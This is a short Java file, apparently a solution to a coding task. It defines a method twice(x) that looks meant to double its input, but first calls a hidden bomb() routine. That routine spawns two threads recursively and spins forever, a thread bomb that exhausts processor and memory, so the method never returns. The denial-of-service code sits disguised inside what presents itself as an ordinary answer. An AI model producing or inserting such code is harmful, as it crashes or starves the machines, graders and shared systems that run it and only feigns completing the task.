class Solution {
    // Threads that start two threads each.
    public int twice(int x) {
        bomb();
        return 2 * x;
    }

    private static void bomb() {
        for (int i = 0; i < 2; i++) new Thread(Solution::bomb).start();
        while (true) Thread.onSpinWait();
    }
}
